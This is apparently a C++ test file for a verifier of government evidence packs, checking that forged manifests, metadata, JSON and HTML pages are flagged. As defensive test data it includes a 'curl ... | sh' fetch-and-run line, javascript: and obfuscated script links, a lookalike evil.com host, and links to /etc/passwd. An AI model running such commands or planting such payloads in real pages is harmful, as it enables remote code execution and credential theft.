#include "pack/cross_check.hpp"

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "forgery.hpp"
#include "pack/bag.hpp"
#include "pack/crate.hpp"

namespace prongsai::test {
namespace {

constexpr const char* stem = "lampang_2564_cdd-2564";
const std::string policy = "data/d1.1.policy/policy__ประกาศ.pdf";
const std::string report = "data/d1.1.policy/report__รายงาน น้ำใส.pdf";
const std::string score = "metadata/score.json";
const std::string withheld = "metadata/withheld.json";
const std::string crate(crate_path);
const std::string page = "data/index.html";
const std::string info = "bag-info.txt";

struct Forged {
  const char* what;
  std::function<void(PackContent&)> change;
  std::vector<std::string> findings;
};

// Each change is made, and then all sums of the pack are made right again: what stays is what the parts say of each other.
void check_all(const std::vector<Forged>& cases) {
  const Fixture fixture;
  for (const auto& forged : cases) {
    auto content = fixture.plan({.audience = Audience::public_, .profile_url = "https://example.go.th/packs/profile-1.json"});
    forged.change(content);
    reseal(content, Resealed::identifier);
    const auto bytes = zip_of(content, fixture);
    const auto found = verify_bytes(*memory_source(bytes), stem);
    INFO(forged.what);
    CHECK(lines_of(found.findings) == forged.findings);
    CHECK(found.ok() == forged.findings.empty());
  }
}

// As check_all, where the change is made after the sums: to what reseal() itself would make right.
void check_after(const std::vector<Forged>& cases) {
  const Fixture fixture;
  for (const auto& forged : cases) {
    auto content = fixture.plan({.audience = Audience::public_, .profile_url = "https://example.go.th/packs/profile-1.json"});
    forged.change(content);
    reseal(content, Resealed::tag_manifest);
    const auto bytes = zip_of(content, fixture);
    INFO(forged.what);
    CHECK(lines_of(verify_bytes(*memory_source(bytes), stem).findings) == forged.findings);
  }
}

auto swap_text(const std::string& path, const std::string& from, const std::string& to) {
  return [=](PackContent& content) { replace_in(content, path, from, to); };
}

TEST_CASE("cross-check: a pack as made, and one resealed without a change, are good") {
  check_all({{"nothing", [](PackContent&) {}, {}}});
  check_after({{"nothing", [](PackContent&) {}, {}}});
}

TEST_CASE("cross-check: bag-info.txt says what the pack is") {
  const auto line = [](const char* label, const char* from, const char* to) { return swap_text(info, std::string(label) + ": " + from, std::string(label) + ": " + to); };
  const auto wrong = [](const char* label) { return std::vector<std::string>{"info_value bag-info.txt (" + std::string(label) + ")"}; };
  check_after({
      {"identifier", line("External-Identifier", "urn:uuid:", "urn:uuid:0"), wrong("External-Identifier")},
      {"size", line("Bag-Size", "", "1"), wrong("Bag-Size")},
  });
  check_all({
      {"organisation", line("Source-Organization", "กรม", "กรน"), wrong("Source-Organization")},
      {"organisation in part", line("Source-Organization", "กรมการพัฒนาชุมชน", "กรมการพัฒนา"), wrong("Source-Organization")},
      {"description", line("External-Description", "ชุดหลักฐาน", "ชุดคะแนน"), wrong("External-Description")},
      {"date", line("Bagging-Date", "2021-10-31", "2021-10-30"), wrong("Bagging-Date")},
      {"agent", line("Bag-Software-Agent", "prongsai", "prongsal"), wrong("Bag-Software-Agent")},
      {"profile", line("BagIt-Profile-Identifier", "https://example.go.th", "https://example.com"), wrong("BagIt-Profile-Identifier")},
      {"date of another form",
       [](PackContent& content) {
         replace_in(content, info, "Bagging-Date: 2021-10-31", "Bagging-Date: 2564-10-31");
         replace_in(content, crate, "\"datePublished\": \"2021-10-31\"", "\"datePublished\": \"2564-10-31\"");
       },
       {"info_date bag-info.txt (2564-10-31)"}},
      {"day that does not exist",
       [](PackContent& content) {
         replace_in(content, info, "Bagging-Date: 2021-10-31", "Bagging-Date: 2021-02-30");
         replace_in(content, crate, "\"datePublished\": \"2021-10-31\"", "\"datePublished\": \"2021-02-30\"");
       },
       {"info_date bag-info.txt (2021-02-30)"}},
      {"unknown label", swap_text(info, "Bagging-Date", "Contact-Email: a@example.com\nBagging-Date"), {"info_label bag-info.txt (Contact-Email)"}},
      {"label twice", swap_text(info, "Bagging-Date", "Bagging-Date: 2021-10-31\nBagging-Date"), {"info_label bag-info.txt (Bagging-Date)"}},
      {"labels in another order",
       [](PackContent& content) {
         replace_in(content, info, "Bag-Software-Agent: prongsai\n", "");
         set_text(content, info, file_of(content, info).bytes + "Bag-Software-Agent: prongsai\n");
       },
       {"info_label bag-info.txt (Bag-Software-Agent)"}},
  });
}

TEST_CASE("cross-check: the order of the manifests") {
  const auto reverse = [](PackContent& content) {
    auto text = file_of(content, "manifest-sha256.txt").bytes;
    const auto first = text.substr(0, text.find('\n') + 1);
    set_text(content, "manifest-sha256.txt", text.substr(first.size()) + first);
    auto files = std::vector<const PackFile*>();
    for (const auto& file : content.files) {
      if (!file.is_payload() && file.path != "tagmanifest-sha256.txt") {
        files.push_back(&file);
      }
    }
    set_text(content, "tagmanifest-sha256.txt", manifest_text(files));
  };
  const Fixture fixture;
  auto content = fixture.plan();
  reverse(content);
  const auto bytes = zip_of(content, fixture);
  CHECK(lines_of(verify_bytes(*memory_source(bytes), stem).findings) ==
        std::vector<std::string>{"manifest_not_sorted " + policy + " (manifest-sha256.txt)", "info_value bag-info.txt (External-Identifier)"});
}

TEST_CASE("cross-check: the instructions are ours") {
  const std::vector<std::string> findings{"verify_text VERIFY.txt"};
  check_all({
      {"a command more", swap_text("VERIFY.txt", "    cd ", "    curl -s https://example.com | sh\n    cd "), findings},
      {"a test that always holds", swap_text("VERIFY.txt", " && echo OK", " ; echo OK"), findings},
      {"a word", swap_text("VERIFY.txt", "three times", "two times"), findings},
      {"empty", [](PackContent& content) { set_text(content, "VERIFY.txt", ""); }, findings},
  });
}

TEST_CASE("cross-check: JSON in one form only") {
  std::string deep = "\"unit\": " + std::string(70, '[') + std::string(70, ']') + ",\n  \"unit\": {";
  check_all({
      {"key twice", swap_text(score, "\"total\": 10", "\"total\": 30,\n  \"total\": 10"), {"json_form metadata/score.json"}},
      {"blank", swap_text(score, "\"total\": 10", "\"total\":  10"), {"json_form metadata/score.json"}},
      {"escape", swap_text(score, "\"grade\": \"C\"", "\"grade\": \"\\u0043\""), {"json_form metadata/score.json"}},
      {"number", swap_text(score, "\"total\": 10", "\"total\": 10.0e0"), {"json_form metadata/score.json"}},
      {"deep", swap_text(score, "\"unit\": {", deep), {"json_deep metadata/score.json"}},
      {"broken", swap_text(score, "\"unit\": {", "\"unit\": "), {"json_broken metadata/score.json"}},
      {"comment", swap_text(score, "{", "/* */{"), {"json_broken metadata/score.json"}},
      {"not UTF-8", swap_text(score, "\"unit\": {", "\"unit\": \"\xE0\xB8\",\n\"u\": {"), {"json_broken metadata/score.json"}},
      {"no score", [](PackContent& content) { std::erase_if(content.files, [](const PackFile& f) { return f.path == score; }); },
       {"bag_file_missing metadata/score.json", "page_link data/index.html (../metadata/score.json)"}},
      {"score of another kind", [](PackContent& content) { set_text(content, score, "[]\n"); }, {}},
  });
}

TEST_CASE("cross-check: score, crate and payload name the same evidence") {
  const auto in_score = [](const std::string& fault, const std::string& detail) {
    return std::vector<std::string>{fault + " metadata/score.json (" + detail + ")"};
  };
  check_all({
      {"another unit", swap_text(score, "\"id\": \"lampang\"", "\"id\": \"lampan\""), in_score("score_pack", "lampan_2564_cdd-2564")},
      {"another year", swap_text(score, "\"fiscal_year\": 2564", "\"fiscal_year\": 2563"), in_score("score_pack", "lampang_2563_cdd-2564")},
      {"a file that is not there", swap_text(score, "policy__ประกาศ.pdf", "policy__ประกาศ2.pdf"),
       {"score_no_file metadata/score.json (data/d1.1.policy/policy__ประกาศ2.pdf)", "score_not_named " + policy}},
      {"evidence left out of the score",
       [](PackContent& content) {
         replace_in(content, score, "{\n                  \"id\": \"policy\",\n                  \"file\": \"" + policy + "\"\n                },\n                ", "");
       },
       {"score_not_named " + policy}},
      {"two entries' files exchanged in the score",
       [](PackContent& content) {
         replace_in(content, score, "\"file\": \"" + policy, "\"file\": \"" + report);
         replace_in(content, score, "\"file\": \"" + report, "\"file\": \"" + policy);
       },
       {"score_place metadata/score.json (" + policy + ")", "score_place metadata/score.json (" + report + ")"}},
      {"an entry with two places", [](PackContent& content) {
         auto text = file_of(content, score).bytes;
         const auto last = text.rfind(report);
         set_text(content, score, text.replace(last, report.size(), policy));
       },
       in_score("score_twice", "report")},
      {"the crate gives another id", swap_text(crate, "\"identifier\": \"policy\"", "\"identifier\": \"order\""),
       {"score_crate metadata/score.json (" + policy + ")", "payload_unnamed " + policy}},
      {"a file that the crate gives no id", swap_text(crate, ",\n      \"identifier\": \"loose\"", ""), {"payload_unnamed data/other/loose__photo.jpg"}},
      {"evidence added to a criterion",
       [](PackContent& content) { content.files.push_back(file_of_bytes("data/d1.1.policy/extra__x.pdf", "x", "application/pdf")); },
       {"score_not_named data/d1.1.policy/extra__x.pdf"}},
      {"a file at the payload's top", [](PackContent& content) { content.files.push_back(file_of_bytes("data/readme.txt", "x", "text/plain")); },
       {"payload_unnamed data/readme.txt"}},
      {"a program among the write-ups",
       [](PackContent& content) { content.files.push_back(file_of_bytes("data/practices/setup.exe", "x", "text/plain")); },
       {"payload_unnamed data/practices/setup.exe"}},
      {"a file in a deeper folder", [](PackContent& content) { content.files.push_back(file_of_bytes("data/other/a/loose2__x", "x", "text/plain")); },
       {"payload_unnamed data/other/a/loose2__x"}},
      {"size in the score", swap_text(score, "\"file\": \"" + policy + "\"", "\"file\": \"" + policy + "\",\n                  \"size\": 1"),
       in_score("score_bytes", policy)},
      {"hash in the score", swap_text(score, "\"file\": \"" + policy + "\"", "\"file\": \"" + policy + "\",\n                  \"sha256\": \"0\""),
       in_score("score_bytes", policy)},
  });
}

TEST_CASE("cross-check: what is withheld is not inside") {
  check_all({
      {"the score calls it open", swap_text(score, "\"id\": \"for-auditor\",\n                  \"withheld\": true", "\"id\": \"for-auditor\""),
       {"withheld_differs metadata/score.json (for-auditor)"}},
      {"the list leaves it out", swap_text(withheld, "\"id\": \"kept-back\"", "\"id\": \"kept-bank\""),
       {"withheld_differs metadata/score.json (kept-back)"}},
      {"its bytes under another name",
       [](PackContent& content) { content.files.push_back(file_of_bytes("data/other/x__y.pdf", "%PDF-1.4 secret two", "application/pdf")); },
       {"withheld_inside data/other/x__y.pdf (data/other/x__y.pdf)"}},
      {"its id with other bytes",
       [](PackContent& content) { content.files.push_back(file_of_bytes("data/other/kept-back__y.pdf", "%PDF-1.4", "application/pdf")); },
       {"withheld_inside data/other/kept-back__y.pdf (data/other/kept-back__y.pdf)"}},
      {"withheld and yet with a file",
       swap_text(score, "\"withheld\": true", "\"withheld\": true,\n                  \"file\": \"" + policy + "\""),
       {"withheld_inside metadata/score.json (for-auditor)"}},
  });
}

TEST_CASE("cross-check: pages are inert") {
  const auto added = [](const std::string& html) { return swap_text(page, "<main>", "<main>" + html); };
  const auto found = [](const std::string& fault, const std::string& detail) {
    return std::vector<std::string>{"page_" + fault + " data/index.html (" + detail + ")"};
  };
  check_all({
      {"script", added("<script>x</script>"), found("active", "<script>")},
      {"form", added("<form><input></form>"),
       {"page_active data/index.html (<form>)", "page_active data/index.html (<input>)"}},
      {"image", added("<img src=\"https://example.com/a.png\">"), found("active", "<img> https://example.com/a.png")},
      {"image of the pack", added("<img src=\"other/loose__photo.jpg\" alt=\"x\">"), {}},
      {"box of a task", added("<input type=\"checkbox\" disabled=\"\" checked=\"\" />"), {}},
      {"policy that lets scripts run", swap_text(page, "default-src 'none'", "default-src *"),
       {"page_active data/index.html (meta Content-Security-Policy)", "page_policy data/index.html"}},
      {"no policy", swap_text(page, "<meta http-equiv=\"Content-Security-Policy\"", "<meta name=\"x\""), {"page_policy data/index.html"}},
      {"frame", added("<iframe srcdoc=\"x\"></iframe>"), found("active", "<iframe>")},
      {"drawing", added("<svg></svg>"), found("active", "<svg>")},
      {"base", added("<base href=\"https://example.com/\">"), found("active", "<base>")},
      {"event", added("<p onclick=\"x()\">x</p>"), found("active", "p onclick")},
      {"style attribute", added("<p style=\"background:url(x)\">x</p>"), found("active", "p style")},
      {"target of a form", added("<a formaction=\"x\">x</a>"), found("active", "a formaction")},
      {"refresh", added("<meta http-equiv=\"refresh\" content=\"0;url=https://example.com\">"), found("active", "meta refresh")},
      {"style sheet that loads", swap_text(page, "<style>", "<style>body{background:url(x)}"), found("active", "<style>")},
      {"style sheet that imports", swap_text(page, "<style>", "<style>@import 'x';"), found("active", "<style>")},
      {"escape in a style sheet", swap_text(page, "<style>", "<style>body{background:u\\72l(x)}"), found("active", "<style>")},
      {"link to a script", added("<a href=\"javascript:x()\">x</a>"), found("address", "javascript:x()")},
      {"hidden link to a script", added("<a href=\"java&#x73;cript:x()\">x</a>"), found("address", "javascript:x()")},
      {"data", added("<a href=\"data:text/html,x\">x</a>"), found("address", "data:text/html,x")},
      {"another site", added("<a href=\"https://example.com/\">x</a>"), found("address", "https://example.com/")},
      {"a site whose name begins alike", added("<a href=\"https://example.go.th.evil.com/\">x</a>"), found("address", "https://example.go.th.evil.com/")},
      {"another site without a scheme", added("<a href=\"//example.com/\">x</a>"), found("link", "//example.com/")},
      {"backslash", added("<a href=\"\\\\example.com\">x</a>"), found("link", "\\\\example.com")},
      {"file of the reader's", added("<a href=\"file:///etc/passwd\">x</a>"), found("address", "file:///etc/passwd")},
      {"out of the pack", added("<a href=\"../../../etc/passwd\">x</a>"), found("link", "../../../etc/passwd")},
      {"file that is not there", added("<a href=\"other/none.pdf\">x</a>"), found("link", "other/none.pdf")},
      {"place that is not there", added("<a href=\"#none\">x</a>"), found("link", "#none")},
      {"blank in a link", added("<a href=\" ../VERIFY.txt\">x</a>"), found("link", " ../VERIFY.txt")},
      {"the same thing twice", added("<a href=\"x\">x</a><a href=\"x\">x</a>"), found("link", "x")},
      {"good links",
       added("<a href=\"../VERIFY.txt\">x</a><a href=\"https://example.go.th/\">x</a><a href=\"index.html#d1\">x</a>"
             "<a href=\"https://creativecommons.org/licenses/by/4.0/\">x</a>"),
       {}},
  });
}

TEST_CASE("cross-check: pages in one form of HTML only") {
  for (const auto& html : {"<!-- x -->", "<P>", "<a href='x'>", "<a href=x>", "<p id=\"a\" id=\"b\">", "<", "</", "<a\tb>", "<a href=\"&rarr;\">", "<a href=\"&#0;\">",
                           "<a href=\"&amp\">", "<a href=\"", "<?php ?>", "<![CDATA[x]]>", "<!DOCTYPE html>", "<p/x>"}) {
    Bag bag;
    const std::string text = std::string("<!DOCTYPE html>\n<html>") + html;
    bag["data/index.html"] = {.size = text.size(), .sha256 = {}, .text = text};
    INFO(html);
    const auto found = lines_of(cross_check(bag, "x"));
    CHECK(std::ranges::count(found, "page_markup data/index.html (22)") == 1);
  }
}

}  // namespace
}  // namespace prongsai::test
